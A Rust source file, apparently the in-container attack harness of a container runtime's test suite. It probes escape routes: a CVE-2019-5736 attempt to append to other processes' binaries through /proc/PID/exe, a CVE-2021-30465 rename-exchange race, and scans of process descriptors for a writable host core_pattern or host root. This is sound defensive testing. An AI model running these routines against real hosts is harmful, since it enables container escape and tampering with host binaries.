//! What runs inside of the attacked containers: `/attack NAME ARGUMENTS`. All of it is harmless where it succeeds: what
//! is opened for writing is not written, unless it is the test's own.

use nix::fcntl::{AT_FDCWD, OFlag, RenameFlags, open, renameat2};
use nix::sys::socket::{AddressFamily, SockFlag, SockType, socket};
use nix::sys::stat::Mode;
use std::fs::{self, File, OpenOptions};
use std::io::{Read as _, Write as _};
use std::os::fd::{AsRawFd as _, OwnedFd};
use std::os::unix::fs::MetadataExt as _;
use std::os::unix::net::UnixStream;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// Runs the attack of this name; what it prints is judged outside.
pub(crate) fn main(args: &[String]) -> Result<(), String> {
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    match args.as_slice() {
        ["overwrite", seconds] => overwrite(number(seconds)?),
        ["exchange", dir, one, other, seconds] => exchange(Path::new(dir), one, other, number(seconds)?),
        ["writable", paths @ ..] => {
            paths.iter().for_each(|path| println!("{path}: {}", opens(path)));
            Ok(())
        }
        ["descriptors"] => descriptors(),
        ["same", one, other] => same(one, other),
        ["sockets"] => sockets(),
        ["ask", path] => ask(Path::new(path)),
        _ => Err(format!("no attack {args:?}")),
    }
}

fn number(text: &str) -> Result<u64, String> {
    text.parse().map_err(|e| format!("{text}: {e}"))
}

/// CVE-2019-5736: keeps a handle on the binary of every process that shows up, and tries to write through it, also
/// when that process has gone. Writes only what it has not got from its own container.
fn overwrite(seconds: u64) -> Result<(), String> {
    let own = fs::metadata("/bin/busybox").map_err(|e| format!("busybox: {e}"))?.dev();
    let end = Instant::now() + Duration::from_secs(seconds);
    let mut held: Vec<OwnedFd> = Vec::new();
    println!("begun");
    while Instant::now() < end {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let path = entry.path().join("exe");
            let is_mine = fs::read_link(&path)
                .map_or(true, |exe| ["/bin/busybox", "/attack"].contains(&exe.to_string_lossy().as_ref()));
            if is_mine {
                continue;
            }
            if let Ok(fd) = open(&path, OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty())
                && held.len() < 500
            {
                held.push(fd);
            }
        }
        for fd in &held {
            let again = PathBuf::from(format!("/proc/self/fd/{}", fd.as_raw_fd()));
            let _ = std::process::Command::new("/bin/mount").args(["-o", "remount,rw,bind"]).arg(&again).output();
            if let Ok(mut file) = OpenOptions::new().append(true).open(again) {
                let _ = file.write_all(b"overwritten");
                println!("overwritten (own device {own})");
                return Ok(());
            }
        }
    }
    println!("{} handles, none of them writable", held.len());
    Ok(())
}

/// CVE-2021-30465: exchanges two entries of a directory as fast as it can, until there is one named `stop`.
fn exchange(dir: &Path, one: &str, other: &str, seconds: u64) -> Result<(), String> {
    let end = Instant::now() + Duration::from_secs(seconds);
    let (one, other) = (dir.join(one), dir.join(other));
    while Instant::now() < end && !dir.join("stop").exists() {
        for _ in 0..1000 {
            renameat2(AT_FDCWD, &one, AT_FDCWD, &other, RenameFlags::RENAME_EXCHANGE)
                .map_err(|e| format!("exchange: {e}"))?;
        }
    }
    Ok(())
}

/// Whether a path opens for writing; nothing is written.
fn opens(path: &str) -> String {
    match OpenOptions::new().write(true).open(path) {
        Ok(_) => "writable".into(),
        Err(why) => why.to_string(),
    }
}

/// What can be reached through the descriptors of every process in sight: a way to the host's procfs, or the host's
/// root.
fn descriptors() -> Result<(), String> {
    for process in fs::read_dir("/proc").map_err(|e| format!("/proc: {e}"))?.flatten() {
        let Ok(pid) = process.file_name().to_string_lossy().parse::<u32>() else { continue };
        if pid == std::process::id() {
            continue;
        }
        for number in 0..64 {
            let fd = format!("/proc/{pid}/fd/{number}");
            let pattern = format!("{fd}/sys/kernel/core_pattern");
            if opens(&pattern) == "writable" {
                println!("{pattern} is writable");
            }
            if Path::new(&fd).join("../../../../proc/1/environ").exists() && fs::read_dir(&fd).is_ok() {
                println!("{fd} is a directory: {}", fs::read_link(&fd).unwrap_or_default().display());
            }
        }
    }
    println!("looked");
    Ok(())
}

/// Whether two paths are one file.
fn same(one: &str, other: &str) -> Result<(), String> {
    let of = |path: &str| fs::metadata(path).map(|about| (about.dev(), about.ino())).ok();
    println!("{}", if of(one).is_some() && of(one) == of(other) { "same" } else { "different" });
    Ok(())
}

/// Families of sockets that a default profile refuses.
fn sockets() -> Result<(), String> {
    let try_family = |name: &str, family| {
        let made = socket(family, SockType::SeqPacket, SockFlag::empty(), None);
        println!("{name}: {}", made.map_or_else(|e| e.to_string(), |_| "open".to_owned()));
    };
    try_family("unix", AddressFamily::Unix);
    try_family("alg", AddressFamily::Alg);
    try_family("vsock", AddressFamily::Vsock);
    let _ = File::open("/proc/self/status");
    Ok(())
}

/// Asks a monitor for its state, and prints what it says.
fn ask(path: &Path) -> Result<(), String> {
    let mut stream = UnixStream::connect(path).map_err(|e| format!("connect: {e}"))?;
    let text = br#"{"version":1,"request":"state"}"#;
    let mut message = (text.len() as u32).to_le_bytes().to_vec();
    message.extend_from_slice(text);
    stream.write_all(&message).map_err(|e| format!("ask: {e}"))?;
    stream.set_read_timeout(Some(Duration::from_secs(5))).map_err(|e| format!("wait: {e}"))?;
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer);
    println!("{}", String::from_utf8_lossy(&answer));
    Ok(())
}
